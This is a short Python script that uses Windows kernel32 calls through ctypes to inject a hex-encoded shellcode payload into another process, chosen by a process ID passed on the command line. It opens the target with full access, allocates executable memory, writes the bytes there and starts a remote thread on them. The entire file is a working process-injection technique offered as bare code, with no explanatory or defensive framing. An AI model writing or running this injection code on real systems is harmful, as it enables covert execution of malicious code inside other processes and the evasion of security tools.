import ctypes
from ctypes import wintypes
import sys

k32 = ctypes.WinDLL("kernel32", use_last_error=True)
pid = int(sys.argv[1])
payload = bytes.fromhex("fc4883e4f0e8c0000000415141505251564831d2")
h = k32.OpenProcess(0x1F0FFF, False, pid)
addr = k32.VirtualAllocEx(h, None, len(payload), 0x3000, 0x40)
written = ctypes.c_size_t(0)
k32.WriteProcessMemory(h, addr, payload, len(payload), ctypes.byref(written))
k32.CreateRemoteThread(h, None, 0, addr, None, 0, None)
print("written", written.value)
k32.CloseHandle(h)
